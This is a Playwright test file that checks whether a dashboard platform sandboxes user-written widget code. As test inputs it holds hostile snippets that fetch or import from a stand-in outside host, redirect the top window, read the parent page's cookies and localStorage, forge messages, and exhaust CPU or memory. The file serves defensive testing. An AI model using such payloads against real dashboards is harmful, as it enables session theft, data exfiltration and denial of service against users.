import type { Page } from '@playwright/test'
import { expect, test } from './fixtures.ts'

/** Where hostile code wants to; no request may ever go there. */
const outside = 'outside.example'
type TestWidget = { title: string; fqn: string; settings: Record<string, unknown>; deviceId?: string }

const configurationOf = (widgets: readonly TestWidget[]) => {
  const named = widgets.map(
    (widget, at) => [`00000000-0000-4000-8000-${String(at).padStart(12, '0')}`, widget] as const,
  )
  return {
    widgets: Object.fromEntries(
      named.map(([id, { title, fqn, settings, deviceId }], at) => [
        id,
        {
          id,
          typeFullFqn: `system.${fqn}`,
          type: 'latest',
          sizeX: 8,
          sizeY: 4,
          row: Math.floor(at / 3) * 4,
          col: (at % 3) * 8,
          config: {
            title,
            showTitle: true,
            settings,
            datasources: deviceId
              ? [
                  {
                    type: 'device',
                    deviceId,
                    dataKeys: [{ name: 'note', type: 'timeseries', label: 'note', settings: {} }],
                  },
                ]
              : [],
          },
        },
      ]),
    ),
    states: {
      default: {
        name: 'default',
        root: true,
        layouts: {
          main: {
            widgets: Object.fromEntries(
              named.map(([id], at) => [id, { sizeX: 8, sizeY: 4, row: Math.floor(at / 3) * 4, col: (at % 3) * 8 }]),
            ),
            gridSettings: { columns: 24 },
          },
        },
      },
    },
    entityAliases: {},
    filters: {},
    settings: {},
  }
}

/** Notes what hostile code would have reached: a request that really goes out, a dialog, a window, the page's own script. */
const watch = async (page: Page) => {
  const reached: string[] = []
  await page.context().route(
    (url) => url.hostname.endsWith(outside),
    (route) => {
      reached.push(route.request().url())
      return route.abort()
    },
  )
  page.on('dialog', (dialog) => {
    reached.push(`dialog ${dialog.message()}`)
    void dialog.dismiss()
  })
  page.on('popup', (popup) => reached.push(`window ${popup.url()}`))
  // In the page alone: what calls it in a frame finds nothing.
  await page.addInitScript(() => {
    if (window !== window.top) return
    const calls: unknown[] = []
    Object.assign(window, { calls, reachedThePage: (what: unknown) => calls.push(what) })
  })
  return async () => [
    ...reached,
    ...(await page
      .evaluate(() => ('calls' in window ? JSON.stringify(window.calls) : 'none'))
      .then((calls) => (calls === '[]' ? [] : [calls]))),
  ]
}

const functionWidget = (title: string, code: string): TestWidget => ({
  title,
  fqn: 'cards.markdown_card',
  settings: { useMarkdownTextFunction: true, markdownTextFunction: code },
})
const scriptWidget = (title: string, js: string, html = '<p>Here</p>'): TestWidget => ({
  title,
  fqn: 'html_container',
  settings: { type: 'PLAIN', html, css: '', js },
})

test('hostile functions of a dashboard end without harm, and the others go on', async ({
  tenantPage: page,
  platform,
}) => {
  const reached = await watch(page)
  const id = await platform.createDashboard(
    `Hostile functions ${Date.now()}`,
    configurationOf([
      functionWidget('loop', 'for (;;) {}'),
      functionWidget('network', `return fetch('https://${outside}/f')`),
      functionWidget('module', `return import('https://${outside}/m.js')`),
      functionWidget('away', `top.location = 'https://${outside}/t'; return 'x'`),
      functionWidget('giant', "return 'x'.repeat(2 ** 28)"),
      functionWidget('memory', 'const all = []; for (;;) all.push(new Array(1e6).fill(1.5))'),
      functionWidget('page', "return parent.document.cookie + localStorage.getItem('x')"),
      functionWidget('forged', "postMessage({ type: 'done', id: 1, results: [] }); return 'x'"),
      functionWidget('good', "return 'The answer is ' + 6 * 7"),
    ]),
  )
  await page.goto(`/dashboards/${id}`)
  const widget = (title: string) => page.getByRole('region', { name: title, exact: true })
  await expect(widget('good')).toContainText('The answer is 42')
  const reasons: Readonly<Record<string, RegExp>> = {
    loop: /half a second/,
    network: /without network/,
    module: /Failed to fetch|resolve module/,
    away: /TypeError|ReferenceError|SecurityError/,
    giant: /too large/,
    memory: /half a second|broke the sandbox/,
    page: /TypeError|ReferenceError/,
    forged: /not a function/,
  }
  for (const [title, reason] of Object.entries(reasons)) await expect.soft(widget(title), title).toContainText(reason)
  await expect(page).toHaveURL(new RegExp(`/dashboards/${id}`))
  expect(await reached()).toEqual([])
  await platform.remove(`/api/dashboard/${id}`)
})

test('a script changes nothing before the viewer has done something', async ({
  tenantPage: page,
  platform,
  device,
}) => {
  // Whoever drives the browser counts as somebody at the keys, so the browser's own answer says nothing here.
  await page.addInitScript(() =>
    Object.defineProperty(Navigator.prototype, 'userActivation', { value: { isActive: false, hasBeenActive: false } }),
  )
  const save = `ctx.attributeService.saveEntityAttributes({ entityType: 'DEVICE', id: '${device.id}' }, 'SERVER_SCOPE', [{ key: 'early', value: 1 }])`
  const id = await platform.createDashboard(
    `Early ${Date.now()}`,
    configurationOf([
      scriptWidget('saves', `await ${save}`),
      scriptWidget('leads away', "await ctx.router.navigateByUrl('/devices')"),
      scriptWidget('commands', "await ctx.controlApi.sendOneWayCommand('off', {})"),
    ]),
  )
  await page.goto(`/dashboards/${id}`)
  for (const title of ['saves', 'leads away', 'commands']) {
    await expect(page.getByRole('region', { name: title, exact: true }).getByRole('alert'), title).toContainText(
      'only right after a click',
    )
  }
  await expect(page).toHaveURL(new RegExp(`/dashboards/${id}`))
  await platform.remove(`/api/dashboard/${id}`)
})
